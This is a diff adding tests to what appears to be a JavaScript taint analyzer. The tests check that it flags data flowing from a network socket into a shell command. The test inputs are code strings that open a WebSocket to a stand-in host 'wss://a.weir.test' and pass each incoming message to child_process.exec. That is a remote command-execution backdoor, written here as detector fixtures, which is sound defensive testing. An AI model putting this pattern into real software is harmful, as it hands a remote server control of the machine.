@@ -45,3 +45,21 @@ test('a helper starts each command that it is given', () => {
     ['npm', 'publish'],
   ]);
 });
+
+test.each([
+  ['a socket', "const s = new WebSocket('wss://a.weir.test'); s.onmessage = (event) => cp.exec(event.data);"],
+  [
+    'a socket whose class is a default',
+    "class A { constructor({ Socket = globalThis.WebSocket } = {}) { this.Socket = Socket; } open() { this.s = new this.Socket('wss://a.weir.test'); this.s.onmessage = (event) => cp.exec(event.data); } }\nnew A().open();",
+  ],
+])('what %s tells is what a server answers', (_name, source) => {
+  const { flows } = analyzeJs(`const cp = require('child_process');\n${source}`).flow;
+  expect(flows.some(({ sink, labels }) => sink === 'command' && (labels & LABEL.network) !== 0)).toBe(true);
+});
+
+test('what a worker tells is not', () => {
+  const { flows } = analyzeJs(
+    "const w = new Worker('./w.js'); w.onmessage = (event) => require('child_process').exec(event.data);",
+  ).flow;
+  expect(flows.some(({ labels }) => (labels & LABEL.network) !== 0)).toBe(false);
+});
